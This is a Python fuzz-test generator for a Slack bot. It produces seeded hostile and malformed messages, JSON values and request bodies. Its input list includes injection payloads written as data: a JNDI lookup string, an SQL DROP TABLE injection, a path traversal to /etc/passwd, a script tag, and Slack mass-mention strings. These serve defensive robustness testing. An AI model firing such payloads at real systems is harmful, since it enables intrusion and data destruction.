"""Hostile and malformed input. The same seed gives the same input."""

import json
import os
import random
from typing import Any
from urllib.parse import urlencode

from sandbox.realtimekit import seeds

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "40"))
"""Of each kind. `make fuzz` takes thousands."""
SEED = int(os.environ.get("FUZZ_SEED", "7"))
DATABASES = (os.environ.get("FUZZ_DATABASE") or "sqlite postgresql").split()
"""The databases to run the bot with."""

PINGS = ("<!channel>", "<!here>", "<@U0EVIL0001>", "<#C0EVIL0001>", "<https://evil.example|click>", "<!subteam^S0EVIL>")
"""What must never reach Slack unescaped."""
_PIECES = (
    *PINGS,
    *("follow", "unfollow", "following", "help", "quiet", "loud", "/livestream", "FOLLOW", "follow follow"),
    *(seeds.LIVE, seeds.IDLE, seeds.LIVE.upper(), seeds.LIVE[:-1], "00000000-0000-4000-8000-000000000000"),
    *("`", "*", "_", "~", "&amp;", "&", "\u202e", "\u0000", "\x1b[31m", "\ud83d\ude00", "\n", "\t", "é", "\u2066", "ﷺ"),
    *("%s", "{0}", "${jndi:ldap://evil}", "'; DROP TABLE follows;--", "../../etc/passwd", "<script>", "https://x/?m="),
)


class Generator:
    """Generates texts, JSON values and bodies."""

    def __init__(self, seed: int = SEED) -> None:
        self.random = random.Random(seed)

    def text(self) -> str:
        """Return words, IDs, markup and noise, sometimes very long."""
        pieces = [self.random.choice(_PIECES) for _ in range(self.random.randint(0, 6))]
        text = self.random.choice((" ", "", "\n", "  ")).join(pieces)
        if self.random.random() < 0.05:
            text += self.random.choice("x<&é") * self.random.choice((100, 3_001, 20_000))
        if self.random.random() < 0.2:
            text += "\0"
        return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")

    def json(self, depth: int = 3) -> Any:
        """Return any JSON value."""
        kind = self.random.randint(0, 8 if depth else 5)
        match kind:
            case 0:
                return None
            case 1:
                return self.random.choice((True, False))
            case 2:
                return self.random.choice((0, -1, 1e308, 2**70, 0.1, -0.0, float("nan"), float("inf")))
            case 3 | 4:
                return self.text()
            case 5:
                # JSON can say what no encoding can.
                return self.text()[:200] + self.random.choice(("\ud83d", "\udc00", "\u0000"))
            case 6:
                return [self.json(depth - 1) for _ in range(self.random.randint(0, 3))]
        return {self.text()[:50]: self.json(depth - 1) for _ in range(self.random.randint(0, 3))}

    def mutated(self, value: Any) -> Any:
        """Return the value with a part removed or replaced."""
        if isinstance(value, dict) and value and self.random.random() < 0.9:
            key = self.random.choice(list(value))
            if self.random.random() < 0.2:
                return {name: each for name, each in value.items() if name != key}
            return {**value, key: self.mutated(value[key])}
        if isinstance(value, list) and value and self.random.random() < 0.7:
            return [self.mutated(value[0]), *value[1:]]
        return self.json()

    def body(self) -> bytes:
        """Return a body that may or may not be a form or JSON."""
        match self.random.randint(0, 4):
            case 0:
                return self.random.randbytes(self.random.randint(0, 300))
            case 1:
                return json.dumps(self.json()).encode()
            case 2:
                return urlencode({"payload": json.dumps(self.json())}).encode()
            case 3:
                return urlencode({"payload": self.text(), "command": "/livestream"}, errors="replace").encode()
        return urlencode({self.text()[:20]: self.text() for _ in range(3)}, errors="replace").encode()
